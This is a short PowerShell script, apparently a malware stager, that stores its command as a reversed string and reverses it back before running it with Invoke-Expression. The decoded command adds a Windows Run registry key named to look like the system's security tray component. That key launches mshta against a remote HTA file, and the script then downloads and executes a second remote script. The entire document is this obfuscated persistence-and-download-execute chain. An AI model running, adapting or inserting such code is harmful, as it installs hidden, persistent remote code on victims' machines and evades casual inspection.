$r = ')''1sp.r/13.311.0.302//:ptth''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI;''ath.yart/13.311.0.302//:ptth exe.athsm'' eulaV- ''yarThtlaeHytiruceS'' emaN- ''nuR\noisreVtnerruC\swodniW\tfosorciM\erawtfoS\:UCKH'' htaP- ytreporPmetI-teS'
$f = ($r[-1..-($r.Length)] -join '')
Invoke-Expression $f
